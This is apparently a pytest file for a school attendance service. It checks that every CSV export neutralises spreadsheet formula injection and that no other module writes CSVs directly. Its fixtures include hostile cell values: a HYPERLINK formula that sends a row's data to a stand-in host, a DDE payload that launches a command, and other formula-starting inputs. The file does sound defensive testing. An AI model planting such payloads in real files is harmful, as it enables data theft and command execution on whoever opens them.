"""Every CSV the service writes keeps a cell that a spreadsheet would run as a formula as text
(forms_service/csvfiles.py, issue 14 finding 7): the screening list on the web and from
`forms-service screen --csv`, the bulk letters' manifest and the register export, read back here
as a spreadsheet would get them. And no module writes a CSV any other way."""
from __future__ import annotations

import ast
import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from test_screening import _upload, screen_command

import forms_service
from forms_service import csvfiles
from forms_service.csvfiles import safe_cell
from forms_service.letters import bulk as bulk_letters
from forms_service.policies import load_profile
from forms_service.register import screening
from forms_service.register.marks import Register, Session, to_csv

from support.helpers import login
from support.registers import PupilRegister

# As a school's own export could carry them (UPNs are read as typed, trimmed): each would run as a
# formula, the first sending the row's other cells to another site when the list is opened.
ON = dt.date(2026, 3, 13)
TEN_WEEKS = (dt.date(2026, 1, 5), ON)
HOSTILE_UPNS = ['=HYPERLINK("http://x.invalid/?"&B2,"Open")', "+1+1", "-2+3", "@SUM(A1:A9)"]


def hostile_school_csv() -> bytes:
    """A whole-school export in which four pupils over the penalty-notice threshold have hostile UPNs
    (written with a plain csv.writer, as a school's system would: no neutralising on the way in)."""
    stand_ins = [f"A90000000000{n}" for n in range(len(HOSTILE_UPNS))]
    pupils = [PupilRegister(dt.date(2025, 9, 1), ON, upn=upn).mark_sessions(11, "O", *TEN_WEEKS) for upn in stand_ins]
    sessions = tuple(s for p in pupils for s in p.sessions())
    rows = list(csv.reader(io.StringIO(to_csv(Register("2024", sessions)))))
    real = dict(zip(stand_ins, HOSTILE_UPNS))
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([rows[0]] + [[real[r[0]], *r[1:]] for r in rows[1:]])
    return out.getvalue().encode()


def upn_cells(data: str) -> list[str]:
    return sorted(row["upn"] for row in csv.DictReader(io.StringIO(data)))


EXPECTED = sorted("'" + upn for upn in HOSTILE_UPNS)


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
    # Only the first character counts: just past it, and text that is already quoted, stay as they are.
    ("a=1+1", "a=1+1"), (" =1", " =1"), ("'=1", "'=1"), ("", ""), (None, ""),
    # The service's own figures are numbers: a negative one is a number, not a formula.
    (-3, "-3"), (-2.5, "-2.5"), (95.3, "95.3"), (0, "0"),
])
def test_a_cell_that_would_start_a_formula_is_kept_as_text(value, cell):
    assert safe_cell(value) == cell


def test_the_screening_list_keeps_hostile_upns_as_text():
    result = screening.screen_file(hostile_school_csv(), load_profile("national-2024"), workers=1)
    assert sorted(r.upn for r in result.rows) == sorted(HOSTILE_UPNS)  # listed, as the school typed them
    assert upn_cells(screening.to_csv(result)) == EXPECTED


def test_the_screen_command_writes_hostile_upns_as_text(tmp_path):
    _, out = screen_command(tmp_path, hostile_school_csv())
    assert upn_cells(out.read_text(encoding="utf-8")) == EXPECTED


def test_the_web_screening_download_keeps_hostile_upns_as_text(client):
    login(client, "office@demo.school")
    download = _upload(client, "csv", hostile_school_csv())
    assert download.status_code == 200 and download.mimetype == "text/csv"
    assert upn_cells(download.get_data(as_text=True)) == EXPECTED


def test_the_bulk_manifest_keeps_every_hostile_cell_as_text():
    hostile = ["=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"]
    rows = [{"status": "skipped", "upn": value, "pupil": value, "parent": value, "reason": value, "figures": {},
             "selected_because": []} for value in hostile]
    read = list(csv.DictReader(io.StringIO(bulk_letters.manifest_csv(rows), newline="")))
    for row, value in zip(read, hostile):
        assert row["upn"] == row["pupil"] == row["parent"] == row["reason"] == "'" + value


def test_the_register_export_keeps_a_hostile_upn_as_text():
    register = Register("2024", (Session(dt.date(2026, 1, 5), "AM", "/", "=1+1"),))
    assert list(csv.reader(io.StringIO(to_csv(register)))) == [["upn", "date", "session", "code"],
                                                               ["'=1+1", "2026-01-05", "AM", "/"]]


def _csv_writers(tree: ast.AST) -> list[int]:
    """Lines making a csv writer: csv.writer(...) / csv.DictWriter(...) or `from csv import writer`."""
    lines = []
    for node in ast.walk(tree):
        if (isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name) and node.value.id == "csv"
                and node.attr in ("writer", "DictWriter")):
            lines.append(node.lineno)
        if isinstance(node, ast.ImportFrom) and node.module == "csv" and \
                any(a.name in ("writer", "DictWriter") for a in node.names):
            lines.append(node.lineno)
    return lines


def test_no_module_but_csvfiles_makes_a_csv_writer():
    package = Path(forms_service.__file__).parent
    own = Path(csvfiles.__file__).resolve()
    found = {str(path.relative_to(package)): lines for path in sorted(package.rglob("*.py"))
             if path.resolve() != own and (lines := _csv_writers(ast.parse(path.read_text(encoding="utf-8"))))}
    assert found == {}, "write CSVs with forms_service.csvfiles.write_csv, which neutralises formulas"
    assert _csv_writers(ast.parse(own.read_text(encoding="utf-8")))  # the check does find one
